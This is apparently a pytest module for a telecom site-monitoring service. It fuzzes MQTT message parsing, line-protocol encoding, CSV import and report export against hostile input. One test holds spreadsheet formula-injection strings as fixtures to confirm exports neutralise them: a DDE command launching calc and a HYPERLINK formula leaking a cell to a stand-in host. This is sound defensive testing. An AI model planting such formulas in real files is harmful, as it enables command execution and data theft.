"""Hostile input: every message is stored exactly or rejected with a reason; nothing crashes.

Unit level: the corpus (tests/corpus) and property tests (hypothesis) over
``connectors.reading.parse_message`` and ``connectors.lineprotocol``.
Integration level: the corpus mixed with good messages through a real
Mosquitto into a real collector process and InfluxDB.
"""

from __future__ import annotations

import math
import re
import signal
import time
import urllib.parse
import urllib.request
from collections import Counter
from pathlib import Path

import orjson
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from connectors.deadletter import DeadLetterStore
from connectors.lineprotocol import encode_reading
from connectors.reading import (
    ID_PATTERN,
    InterferenceReading,
    PowerReading,
    TowerReading,
    check_id,
    parse_message,
)
from tests.corpus import Case, corpus
from tests.support import collector_process, publish, tower_messages, wait_for

REASONS = {"oversize", "bad_topic", "unknown_stream", "bad_site_id", "bad_encoding", "bad_json",
           "not_a_reading", "empty", "too_many_readings", "site_mismatch", "schema", "future_ts",
           "ancient_ts", "too_old"}
NOW = 1_795_000_000
_ID = re.compile(ID_PATTERN)

# -- a strict reader of our line protocol, to check what we write --------------------------------


def _split(text: str, sep: str, *, quotes: bool = False) -> list[str]:
    """Split on unescaped (and, for fields, unquoted) ``sep``; keep escapes."""
    out, cur, i, quoted = [], [], 0, False
    while i < len(text):
        c = text[i]
        if c == "\\" and i + 1 < len(text):
            cur.append(text[i:i + 2])
            i += 2
            continue
        if quotes and c == '"':
            quoted = not quoted
        if c == sep and not quoted:
            out.append("".join(cur))
            cur = []
        else:
            cur.append(c)
        i += 1
    assert not quoted, f"unterminated string in {text!r}"
    out.append("".join(cur))
    return out


def _unescape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def parse_line(line: str) -> tuple[str, dict[str, str], dict[str, object], int]:
    """(measurement, tags, fields, ts_ns) of one line; fails on anything malformed."""
    assert line and "\n" not in line and "\r" not in line, repr(line)
    head, fields_text, ts = _split(line, " ", quotes=True)
    measurement, *tag_parts = _split(head, ",")
    tags = {}
    for part in tag_parts:
        k, v = _split(part, "=")
        assert k and v, line
        tags[_unescape(k)] = _unescape(v)
    fields: dict[str, object] = {}
    for part in _split(fields_text, ",", quotes=True):
        k, v = part.split("=", 1)
        if v in ("true", "false"):
            fields[k] = v == "true"
        elif v.endswith("i"):
            fields[k] = int(v[:-1])
        elif v.startswith('"'):
            fields[k] = _unescape(v[1:-1])
        else:
            value = float(v)
            assert math.isfinite(value), line
            fields[k] = value
    assert ts.isdigit() or (ts.startswith("-") and ts[1:].isdigit()), line
    return _unescape(measurement), tags, fields, int(ts)


def expected_lines(reading) -> list[tuple[str, dict, dict, int]]:
    """What ``encode_reading`` must produce, from the model alone."""
    values = reading.model_dump(exclude={"site_id", "ts"})
    ts = reading.ts_ns
    if isinstance(reading, TowerReading):
        return [("tower", {"site_id": reading.site_id},
                 {k: (v if isinstance(v, bool) else float(v)) for k, v in values.items() if v is not None}, ts)]
    if isinstance(reading, PowerReading):
        meter = values.pop("meter_id")
        return [("power", {"site_id": reading.site_id, "meter_id": meter},
                 {k: float(v) for k, v in values.items() if v is not None}, ts)]
    assert isinstance(reading, InterferenceReading)
    tags = {"site_id": reading.site_id, "cell_id": reading.cell_id, "band": reading.band}
    fields = {"ul_interference_dbm": float(reading.ul_interference_dbm), "period_s": reading.period_s}
    if reading.ul_prb_usage_pct is not None:
        fields["ul_prb_usage_pct"] = float(reading.ul_prb_usage_pct)
    out = [("interference", tags, fields, ts)]
    if reading.prb_dbm:
        out.append(("interference_prb", tags,
                    {f"prb_{i:03d}": float(v) for i, v in enumerate(reading.prb_dbm)}, ts))
    return out


def check_encoding(reading) -> None:
    lines = encode_reading(reading).split("\n")
    assert [parse_line(ln) for ln in lines] == expected_lines(reading)


# -- the corpus ------------------------------------------------------------------------------

CASES = corpus(NOW)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_corpus_case_is_stored_or_rejected_with_its_reason(case: Case):
    parsed = parse_message(case.topic, case.payload, NOW)
    if case.ok:
        assert parsed.rejection is None, parsed.rejection
        assert len(parsed.readings) == case.points
        for reading in parsed.readings:
            check_encoding(reading)
    else:
        assert parsed.rejection is not None and not parsed.readings
        assert parsed.rejection.reason == case.expect, parsed.rejection
        assert parsed.rejection.detail and len(parsed.rejection.detail) < 500


def test_corpus_covers_every_reason_and_a_good_share_of_good_messages():
    reasons = {c.expect for c in CASES}
    assert reasons >= REASONS, REASONS - reasons
    assert sum(c.ok for c in CASES) >= 10
    assert sum(c.mqtt for c in CASES) > 150


# -- properties ------------------------------------------------------------------------------

json_scalars = (st.none() | st.booleans() | st.integers(min_value=-(2**63), max_value=2**64 - 1)
                | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30))
json_values = st.recursive(json_scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=12)
ids = st.one_of(st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9_.-]{0,63}\Z"), st.text(max_size=70),
                st.sampled_from(["S1", "S1\n", "S 1", "S,1", "S=1", 'S"1', "Sé", "", "-S", "S" * 65]))
timestamps = st.one_of(
    st.integers(min_value=946_684_800, max_value=NOW + 300),
    st.floats(min_value=-1e12, max_value=1e12, allow_nan=False),
    st.datetimes().map(lambda d: d.isoformat()),
    st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
    json_values,
)


def _maybe(valid: st.SearchStrategy) -> st.SearchStrategy:
    return st.one_of(valid, valid, json_values)


readingish = st.fixed_dictionaries(
    {"ts": timestamps},
    optional={
        "site_id": st.one_of(st.just("S1"), ids),
        "mains_ok": _maybe(st.booleans()),
        "battery_soc_pct": _maybe(st.floats(-10, 110)),
        "cabinet_temp_c": _maybe(st.floats(-50, 100)),
        "meter_id": ids,
        "energy_kwh": _maybe(st.floats(-1, 1e12)),
        "power_factor": _maybe(st.floats(-2, 2)),
        "cell_id": ids,
        "band": _maybe(st.sampled_from(["n78", "n1", "B3", "x1", "n78 ", "n1234"])),
        "ul_interference_dbm": _maybe(st.floats(-150, -30)),
        "prb_dbm": _maybe(st.lists(st.floats(-141, -39), max_size=280)),
        "period_s": _maybe(st.integers(-5, 100_000)),
        "extra": json_values,
    },
)
topics = st.one_of(
    st.builds(lambda s, stream: f"sites/{s}/{stream}", st.one_of(st.just("S1"), ids),
              st.sampled_from(["tower", "power", "interference", "weather", "Tower", ""])),
    st.text(max_size=40),
)
payloads = st.one_of(
    st.binary(max_size=300),
    st.builds(orjson.dumps, readingish),
    st.builds(orjson.dumps, st.lists(readingish, max_size=5)),
    st.builds(lambda v: orjson.dumps(v), json_values),
)
PROPS = hsettings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPS
@given(topic=topics, payload=payloads)
def test_parse_message_never_raises_and_every_accepted_reading_encodes_cleanly(topic, payload):
    parsed = parse_message(topic, payload, NOW)
    assert (parsed.rejection is None) == bool(parsed.readings)  # one or the other, never both
    if parsed.rejection is not None:
        assert parsed.rejection.reason in REASONS and not parsed.readings
        return
    assert parsed.readings
    for reading in parsed.readings:
        assert _ID.fullmatch(reading.site_id) and reading.site_id == topic.split("/")[1]
        assert reading.ts_ns <= (NOW + 300) * 10**9
        check_encoding(reading)


@PROPS
@given(stream=st.sampled_from(["tower", "power", "interference"]), doc=readingish)
def test_a_reading_never_corrupts_its_neighbours_in_a_batch(stream, doc):
    good_a = parse_message("sites/A1/tower", orjson.dumps({"ts": NOW, "mains_ok": True}), NOW).readings[0]
    good_b = parse_message("sites/B1/power", orjson.dumps({"ts": NOW, "meter_id": "M", "energy_kwh": 2.5}),
                           NOW).readings[0]
    parsed = parse_message(f"sites/S1/{stream}", orjson.dumps(doc), NOW)
    middle = list(parsed.readings)
    batch = "\n".join(encode_reading(r) for r in [good_a, *middle, good_b])
    lines = [parse_line(ln) for ln in batch.split("\n")]
    assert lines[0] == expected_lines(good_a)[0]
    assert lines[-1] == expected_lines(good_b)[0]
    assert len(lines) == 2 + sum(len(expected_lines(r)) for r in middle)


@PROPS
@given(value=ids)
def test_identifiers_are_accepted_exactly_when_they_match_the_contract(value):
    matches = bool(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,63}", value))
    try:
        check_id(value)
        accepted = True
    except ValueError:
        accepted = False
    assert accepted == matches
    parsed = parse_message(f"sites/{value}/tower", orjson.dumps({"ts": NOW, "mains_ok": True}), NOW)
    assert parsed.ok == (matches and "/" not in value)
    power = parse_message("sites/S1/power", orjson.dumps({"ts": NOW, "meter_id": value, "energy_kwh": 1}), NOW)
    assert power.ok == matches
    if power.ok:
        assert parse_line(encode_reading(power.readings[0]))[1]["meter_id"] == value


# -- through a real broker and collector --------------------------------------------------------


def _select(influx, db: str, q: str) -> list[dict]:
    body = urllib.parse.urlencode({"q": q, "db": db, "epoch": "ns"}).encode()
    with urllib.request.urlopen(urllib.request.Request(f"{influx.url}/query", data=body), timeout=30) as r:
        out = orjson.loads(r.read())
    rows = []
    for s in out["results"][0].get("series") or []:
        for values in s["values"]:
            rows.append(dict(zip(s["columns"], values, strict=False)) | {"_measurement": s["name"]})
    return rows


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def collector_env(tmp_path: Path, mosquitto, influx_url: str, db: str, **extra: str) -> dict[str, str]:
    env = {
        "SITETWIN_MQTT__SERVERS": orjson.dumps([mosquitto.url]).decode(),
        "SITETWIN_MQTT__CLIENT_ID": f"hostile-{tmp_path.name}",
        "SITETWIN_MQTT__SHARED_GROUP": f"h{abs(hash(str(tmp_path))) % 10**8}",
        "SITETWIN_INFLUXDB__URL": influx_url,
        "SITETWIN_INFLUXDB__DATABASE": db,
        "SITETWIN_COLLECTOR__BATCH_SIZE": "2000",
        "SITETWIN_COLLECTOR__BATCH_AGE": "0.2",
        "SITETWIN_SERVICES__STATE_DIR": str(tmp_path / "state"),
        "SITETWIN_SPOOL__FSYNC": "false",
        "SITETWIN_SPOOL__DRAIN_INTERVAL": "0.2",
        # One process per `sitetwin run` (client id as given), as the tests' spool paths assume;
        # tests/test_supervisor.py runs the supervised workers.
        "SITETWIN_COLLECTOR__WORKERS": "1",
    }
    env.update(extra)
    return env


def wait_until_ingesting(mosquitto, influx, db: str, site: str = "Z9999") -> None:
    """Publish probes until one lands: from then on the collector's session holds our messages."""
    for k in range(60):
        publish(mosquitto.host, mosquitto.port,
                [(f"sites/{site}/tower", orjson.dumps({"ts": NOW - 86400 + k, "mains_ok": True}))])
        try:
            wait_for(lambda: _select(influx, db, f"SELECT mains_ok FROM tower WHERE site_id = '{site}'"),
                     timeout=1.0, interval=0.1)
            return
        except AssertionError:
            continue
    raise AssertionError("the collector never started ingesting")


@pytest.mark.integration
def test_corpus_through_broker_and_collector_stores_good_exactly_and_dead_letters_bad(
        tmp_path, mosquitto, influxdb, influx_db):
    now = int(time.time())
    cases = [c for c in corpus(now) if c.mqtt]
    good = [c for c in cases if c.ok]
    bad = [c for c in cases if not c.ok]
    env = collector_env(tmp_path, mosquitto, influxdb.url, influx_db)
    log = tmp_path / "collector.log"
    proc = collector_process(env, log_path=log)
    rounds = 4
    rss = []
    try:
        wait_until_ingesting(mosquitto, influxdb, influx_db)
        filler = [(t.replace("sites/S", "sites/F"), p) for t, p in tower_messages(10, 30)]
        for r in range(rounds):
            # good, bad and filler interleaved; every round repeats the corpus (duplicate deliveries)
            messages: list[tuple[str, bytes]] = []
            for i, case in enumerate(cases):
                messages.append((case.topic, case.payload))
                messages.extend(filler[i * 2:i * 2 + 2])
            publish(mosquitto.host, mosquitto.port, messages)
            # the same good message once more, retained (delivered live, stored once)
            publish(mosquitto.host, mosquitto.port, [(good[0].topic, good[0].payload)], retain=True)
            publish(mosquitto.host, mosquitto.port, [(good[0].topic, b"")], retain=True)  # clear it
            store = DeadLetterStore(tmp_path / "state" / "rejected.sqlite")
            try:
                want = (r + 1) * (len(bad) + 1)  # the retain-clearing empty message is rejected too
                wait_for(lambda store=store, want=want: store.total() >= want, timeout=60,
                         message=f"{want} dead letters")
            finally:
                store.close()
            assert proc.poll() is None, log.read_text()[-3000:]
            rss.append(_rss_kib(proc.pid))
        wait_for(lambda: len(_select(influxdb, influx_db, "SELECT mains_ok FROM tower WHERE site_id =~ /^F/"))
                 == len(filler), message="filler complete")
    finally:
        alive = proc.poll() is None
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)
    assert alive and proc.returncode == 0, log.read_text()[-3000:]

    # every good reading exactly once (series + timestamp), with its values
    expected = set()
    for case in good:
        for reading in parse_message(case.topic, case.payload, now).readings:
            for m, tags, _fields, ts in expected_lines(reading):
                expected.add((m, tuple(sorted(tags.items())), ts))
    stored = set()
    for measurement in ("tower", "power", "interference", "interference_prb"):
        q = f"SELECT * FROM {measurement} WHERE site_id !~ /^[FZ]/ GROUP BY *"
        body = urllib.parse.urlencode({"q": q, "db": influx_db, "epoch": "ns"}).encode()
        with urllib.request.urlopen(urllib.request.Request(f"{influxdb.url}/query", data=body)) as resp:
            out = orjson.loads(resp.read())
        for s in out["results"][0].get("series") or []:
            tags = tuple(sorted((k, v) for k, v in s["tags"].items() if v))
            for values in s["values"]:
                key = (measurement, tags, values[0])
                assert key not in stored
                stored.add(key)
    assert stored == expected

    # every bad message in the dead-letter store, with its reason, once per delivery
    store = DeadLetterStore(tmp_path / "state" / "rejected.sqlite")
    try:
        letters = store.list(limit=100_000)
    finally:
        store.close()
    want = Counter((c.topic, c.expect) for c in bad for _ in range(rounds))
    want[(good[0].topic, "bad_json")] += rounds
    assert Counter((d.topic, d.reason) for d in letters) == want
    by_topic_payload = {(c.topic, c.payload[:16 * 1024]) for c in bad} | {(good[0].topic, b"")}
    assert all((d.topic, d.payload) in by_topic_payload for d in letters)

    print(f"collector RSS (KiB) after each round: {rss}")
    # memory stays bounded: repeating the corpus does not grow the collector
    assert rss[-1] < 400 * 1024, rss
    assert rss[-1] - rss[1] < 32 * 1024, rss


# -- CSV imports and exported reports ---------------------------------------------------------

CSV_CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "csv"


@pytest.fixture
def twin_env(tmp_path, monkeypatch):
    monkeypatch.setenv("SITETWIN_TWIN__URL", f"sqlite:///{tmp_path / 'twin.sqlite'}")
    monkeypatch.setenv("SITETWIN_SERVICES__STATE_DIR", str(tmp_path / "state"))
    return tmp_path


def _sites(capsys) -> list[dict]:
    from sitetwin.cli import main

    assert main(["sites", "list", "--json"]) == 0
    return orjson.loads(capsys.readouterr().out)


@pytest.mark.parametrize(("name", "message"), [
    ("sites_latin1.csv", "not UTF-8"),
    ("sites_utf16.csv", "not UTF-8"),
    ("sites_empty.csv", "header row is required"),
    ("sites_missing_columns.csv", "missing required column(s) kind, supply, region, customer_class"),
    ("sites_unterminated_quote.csv", "line 3"),
    ("sites_bad_values.csv", "5 invalid row(s), nothing imported"),
])
def test_a_hostile_csv_imports_nothing_and_says_why(name, message, twin_env, capsys):
    from sitetwin.cli import main

    assert main(["sites", "import", str(CSV_CORPUS / name)]) == 1
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert [ln for ln in err.splitlines() if ln.startswith("sitetwin: error:")]
    assert _sites(capsys) == []


def test_formula_strings_are_stored_as_given_and_neutralised_in_exported_reports(twin_env, capsys):
    from openpyxl import load_workbook

    from sitetwin.cli import main

    assert main(["sites", "import", str(CSV_CORPUS / "sites_formula.csv")]) == 0
    capsys.readouterr()
    by_id = {s["site_id"]: s for s in _sites(capsys)}
    assert by_id["F0001"]["county"] == "=cmd|' /C calc'!A0"  # data is kept exactly
    assert by_id["F0004"]["name"] == "=1+1"  # text cells are stripped of surrounding blanks
    counties = {"=cmd|' /C calc'!A0", "@SUM(A1:A9)", '=HYPERLINK("http://x.example/?leak="&A1,"click")',
                "Xinjin"}
    for suffix in ("csv", "xlsx"):
        out = twin_env / f"progress.{suffix}"
        assert main(["report", "progress", "--year", "2026", "--out", str(out), "--json"]) == 0
        capsys.readouterr()
        if suffix == "csv":
            import csv

            with out.open(encoding="utf-8-sig", newline="") as fh:
                cells = [row[0] for row in csv.reader(fh)][1:]
            types = ["s"] * len(cells)
        else:
            sheet = load_workbook(out).active
            column = next(iter(sheet.iter_cols(min_col=1, max_col=1)))[1:]
            cells, types = [c.value for c in column], [c.data_type for c in column]
        assert "f" not in types  # no formula cell in the workbook
        for county in counties:
            shown = "'" + county if county[0] in "=+-@\t\r" else county
            assert shown in cells, (suffix, county, cells)
        assert not any(str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
